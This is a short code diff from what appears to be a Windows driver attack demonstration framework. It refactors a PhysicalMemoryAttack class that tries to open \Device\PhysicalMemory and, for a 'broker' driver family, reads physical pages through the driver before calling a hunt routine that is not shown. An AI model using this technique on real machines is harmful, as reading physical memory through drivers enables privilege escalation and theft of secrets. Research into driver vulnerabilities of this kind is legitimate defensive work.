@@ -4,6 +4,7 @@ import ntsection.drivers.Family;
 import ntsection.drivers.broker.PhysicalPageReader;
 import ntsection.drivers.demo.Attack;
 import ntsection.drivers.demo.Stage;
+import ntsection.drivers.demo.Target;
 import ntsection.nt.LongOut;
 import ntsection.ob.ObjectAttributes;
 
@@ -31,20 +32,20 @@ public final class PhysicalMemoryAttack implements Attack {
     }
 
     @Override
-    public boolean aims(Family family) {
+    public boolean aims(Target target) {
         return true;
     }
 
     @Override
     public void stage(Stage stage) {
-        Family family = stage.driver().family();
+        Target target = stage.target();
         stage.attack(user -> {
             LongOut direct = new LongOut();
             if (user.nt().ntOpenSection(direct, SECTION_MAP_READ,
                     ObjectAttributes.named("\\Device\\PhysicalMemory", 0)).isSuccess()) {
                 user.nt().ntClose(direct.value);
             }
-            if (family != Family.BROKER) return;
+            if (target.family() != Family.BROKER) return;
             PhysicalPageReader reader = new PhysicalPageReader(user);
             if (!reader.open().isSuccess()) return;
             if (reader.requestHandle().isSuccess()) hunt(reader);
